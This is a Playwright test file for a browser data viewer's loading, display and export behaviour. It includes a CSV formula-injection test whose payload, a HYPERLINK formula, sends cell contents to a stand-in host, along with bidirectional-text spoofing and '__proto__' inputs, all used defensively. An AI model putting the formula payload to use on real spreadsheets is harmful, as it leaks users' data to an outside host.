import { readFileSync } from "node:fs";
import type { Locator, Page } from "@playwright/test";
import { expect, fixture, openSample, sql, test } from "./fixtures";

async function open(page: Page, ...files: string[]) {
  await openSample(page);
  await page.getByTestId("file-input").setInputFiles(files.map(fixture));
}

async function exportAs(page: Page, format: string, scope: Locator = page.getByTestId("panes")) {
  await scope.getByTestId("export-format").first().selectOption(format);
  const [download] = await Promise.all([page.waitForEvent("download"), scope.getByTestId("export").first().click()]);
  const path = test.info().outputPath(download.suggestedFilename());
  await download.saveAs(path);
  return path;
}

/** The fields of the open record (row `row`), once it is on screen: name → text. */
const fields = async (page: Page, row = 0) => {
  await expect(page.getByTestId("record")).toHaveAttribute("data-row", String(row));
  await expect(page.getByTestId("record").locator("dt").first()).toBeVisible();
  return Object.fromEntries(
    await page
      .getByTestId("record")
      .locator("dt")
      .evaluateAll((els) => els.map((e) => [e.textContent, e.nextElementSibling?.textContent])),
  ) as Record<string, string>;
};

test("typed Parquet columns show and export exactly as DuckDB holds them", async ({ page }) => {
  await open(page, "typed.parquet");
  await expect(page.getByTestId("row-count")).toHaveText("1 of 1 rows");
  await page.getByTestId("record-row").first().click();
  expect(await fields(page)).toEqual({
    price: "12345678901234567.89",
    big: "9007199254740993",
    umax: "18446744073709551615",
    day: "2020-01-01",
    at: "2020-01-01 10:00:00.123456",
    clock: "10:11:12.5",
    raw: "\\xAAA",
    nan: "NaN",
    inf: "Infinity",
    obj: '{"__proto__":1,"toString":"x"}',
  });
  const row = page.getByTestId("record-row").first();
  await expect(row.locator('[data-col="big"]')).toHaveText("9007199254740993");
  await expect(row.locator('[data-col="price"]')).toHaveText("12345678901234567.89");

  const jsonl = readFileSync(await exportAs(page, "jsonl"), "utf8");
  expect(jsonl).toBe(
    '{"price":12345678901234567.89,"big":9007199254740993,"umax":18446744073709551615,"day":"2020-01-01",' +
      '"at":"2020-01-01 10:00:00.123456","clock":"10:11:12.5",' +
      '"raw":"\\\\xAAA","nan":"NaN","inf":"Infinity","obj":{"__proto__":1,"toString":"x"}}\n',
  );
  const csv = readFileSync(await exportAs(page, "csv"), "utf8").split("\r\n");
  const [cast] = await sql(
    `SELECT ${["price", "big", "umax", "day", "at", "clock", "raw", "nan", "inf"].map((c) => `CAST("${c}" AS VARCHAR) AS "${c}"`).join(", ")} FROM read_parquet('${fixture("typed.parquet")}')`,
  );
  expect(csv[1]).toBe(`${Object.values(cast!).join(",")},"{""__proto__"":1,""toString"":""x""}"`);
  const parquet = await exportAs(page, "parquet");
  expect(await sql(`SELECT * FROM read_parquet('${parquet}')`)).toEqual(
    await sql(`SELECT * FROM read_parquet('${fixture("typed.parquet")}')`),
  );
});

test("an export that cannot be written ends with its reason", async ({ page }) => {
  await page.goto(`/?panel=sql&sql=${encodeURIComponent("SELECT 'a' AS name, INTERVAL 3 DAY AS took")}`);
  const result = page.getByTestId("sql-result");
  await expect(result.getByTestId("record-row").first().locator('[data-col="took"]')).toHaveText("3 days");
  const sqlPanel = page.getByTestId("sql-console");
  const jsonl = await exportAs(page, "jsonl", sqlPanel);
  expect(readFileSync(jsonl, "utf8")).toBe('{"name":"a","took":"3 days"}\n');
  await sqlPanel.getByTestId("export-format").selectOption("parquet");
  await sqlPanel.getByTestId("export").click();
  await expect(sqlPanel.getByTestId("export-error")).toHaveText(
    "Export failed: Parquet cannot hold the intervals of column “took”: export it as JSON Lines or CSV, or make it text in the SQL console (CAST(… AS VARCHAR)) and export that",
  );
});

test("CSV: cells a spreadsheet would run are kept as text, unless the raw CSV is asked for", async ({ page }) => {
  const cells = ['=HYPERLINK("http://x.example/"&A1,"see")', "@SUM(A1)", "-12.5", "plain"];
  await openSample(page);
  await page.getByTestId("file-input").setInputFiles({
    name: "cells.jsonl",
    mimeType: "application/jsonl",
    buffer: Buffer.from(cells.map((c) => JSON.stringify({ cell: c })).join("\n") + "\n"),
  });
  await expect(page.getByTestId("row-count")).toHaveText("4 of 4 rows");
  const safe = readFileSync(await exportAs(page, "csv"), "utf8");
  await expect(page.getByTestId("export-note")).toHaveText("formulas kept as text");
  expect(safe).toBe(`cell\r\n"'=HYPERLINK(""http://x.example/""&A1,""see"")"\r\n'@SUM(A1)\r\n-12.5\r\nplain\r\n`);
  const raw = readFileSync(await exportAs(page, "csv-raw"), "utf8");
  await expect(page.getByTestId("export-note")).toHaveText("formulas as written: a spreadsheet runs them");
  expect(raw).toBe(`cell\r\n"=HYPERLINK(""http://x.example/""&A1,""see"")"\r\n@SUM(A1)\r\n-12.5\r\nplain\r\n`);
});

test("numbers no double holds load exact, as text, and the page says where", async ({ page }) => {
  await open(page, "big-numbers.jsonl");
  await expect(page.getByTestId("row-count")).toHaveText("3 of 3 rows");
  await expect(page.getByTestId("load-warning")).toHaveText([
    "big-numbers.jsonl, line 1, column “big”: 9007199254740993 is more than a double holds exactly; kept as text, digit for digit (1 more number like it in this column)",
    "big-numbers.jsonl, line 1, column “huge”: 12345678901234567890 is more than a double holds exactly; kept as text, digit for digit",
    "big-numbers.jsonl, line 1, column “price”: 12345678901234567.89 is more than a double holds exactly; kept as text, digit for digit",
    "big-numbers.jsonl, line 1, column “far”: 1e400 is more than a double holds exactly; kept as text, digit for digit",
  ]);
  await page.getByTestId("record-row").first().click();
  expect(await fields(page)).toMatchObject({ big: "9007199254740993", huge: "12345678901234567890", far: "1e400" });
  // The numbers of a table of no layout show on its first view, before any search or sort.
  await expect(page.getByTestId("record-row").locator('[data-col="small"]')).toHaveText(["3", "4", "5"]);
});

test("a column of numbers shows them on the first view of a file", async ({ page }) => {
  await open(page, "generic.jsonl");
  await expect(page.getByTestId("row-count")).toHaveText("3 of 3 rows");
  await expect(page.getByTestId("record-row").locator('[data-col="score"]')).toHaveText(["4", "5", "2.5"]);
});

test("bytes that are not UTF-8 load, and the file, line and column are named", async ({ page }) => {
  await open(page, "not-utf8.jsonl");
  await expect(page.getByTestId("row-count")).toHaveText("3 of 3 rows");
  await expect(page.getByTestId("load-warning")).toHaveText(
    "not-utf8.jsonl, line 2, column “text”: 2 bytes that are not UTF-8, read as “\uFFFD”",
  );
  await page.locator('[data-testid="record-row"][data-row="1"]').click();
  expect((await fields(page, 1)).text).toBe("one bad byte \uFFFD and a cut one \uFFFD!");
});

test("a second file of the same name opens beside the first, not in its place", async ({ page }) => {
  await open(page, "same-name/a/same.jsonl");
  await expect(page.getByTestId("row-count")).toHaveText("1 of 1 rows");
  await page.getByTestId("file-input").setInputFiles([fixture("same-name/b/same.jsonl")]);
  await expect(page.getByTestId("row-count")).toHaveText("2 of 2 rows");
  const opened = page.getByTestId("dataset-picker").locator('optgroup[label="Opened"] option');
  await expect(opened).toHaveText(["\u2068same.jsonl\u2069 (1 row)", "\u2068same.jsonl (2)\u2069 (2 rows)"]);
  await page.getByTestId("dataset-picker").selectOption("file:same.jsonl");
  await expect(page.getByTestId("row-count")).toHaveText("1 of 1 rows");
  await expect(page.getByTestId("sql-name")).toHaveText("same");
});

test("ratings and scores off any scale are marked so in the record, as the list counts them", async ({ page }) => {
  await open(page, "ultrafeedback-offscale.jsonl");
  await expect(page.getByTestId("row-count")).toHaveText("1 of 1 prompts");
  await expect(page.getByTestId("load-warning")).toContainText(
    "ultrafeedback-offscale.jsonl, line 1, column “completions”: 1e400 is more than a double holds exactly; read as Infinity, marked off scale",
  );
  const off = page.getByTestId("completion").locator('[data-testid="rating"][data-off-scale]');
  await expect(off).toHaveText(["NaNoff scale", "Infinityoff scale", "1e400off scale"]);
  await expect(page.getByTestId("completion").first().getByTestId("overall-score")).toHaveText("Infinityoff scale");
  await expect(page.getByTestId("record-row").first().locator('[data-col="__na"]')).toHaveText("");
});

test("column names that are JavaScript's own load, show and query like any other", async ({ page }) => {
  await open(page, "js-names.jsonl");
  await expect(page.getByTestId("row-count")).toHaveText("2 of 2 rows");
  await expect(page.getByTestId("load-error")).toHaveCount(0);
  await page.getByTestId("record-row").first().click();
  expect(Object.entries(await fields(page))).toEqual([
    ["constructor", "c1"],
    ["toString", "t1"],
    ["valueOf", "1"],
    ["hasOwnProperty", "h1"],
    ["__proto__", "p1"],
    ["plain", "x1"],
  ]);
  await page.goto(
    `/?panel=sql&sql=${encodeURIComponent('SELECT 1 AS "constructor", 2 AS "toString", 3 AS "hasOwnProperty"')}`,
  );
  const row = page.getByTestId("sql-result").getByTestId("record-row").first();
  await expect(row.locator('[data-col="constructor"]')).toHaveText("1");
  await expect(row.locator('[data-col="toString"]')).toHaveText("2");
  await expect(row.locator('[data-col="hasOwnProperty"]')).toHaveText("3");
});

test("text that reorders: a file name and a model name are isolated; a long turn is cut between characters", async ({
  page,
}) => {
  await openSample(page);
  await page.getByTestId("file-input").setInputFiles({
    name: "\u202Elmth.jsonl",
    mimeType: "application/jsonl",
    buffer: readFileSync(fixture("ultrafeedback-rtl.jsonl")),
  });
  await expect(page.getByTestId("row-count")).toHaveText("1 of 1 prompts");
  const option = page.getByTestId("dataset-picker").locator('optgroup[label="Opened"] option');
  await expect(option).toHaveText("\u2068\u202Elmth.jsonl\u2069 (1 row)");
  const models = page.getByTestId("record-row").first().locator('[data-col="__models"] bdi');
  await expect(models).toHaveCount(4);
  await expect(models.nth(1)).toHaveText("rtl-\u202Eledom");

  await page.getByTestId("file-input").setInputFiles([fixture("long-emoji.jsonl")]);
  await expect(page.getByTestId("row-count")).toHaveText("1 of 1 rows");
  const answer = page.getByTestId("message").nth(1);
  await expect(answer).toContainText("Show more");
  const shown = await answer.locator("p").first().textContent();
  expect(shown).toBe("a".repeat(2399));
});
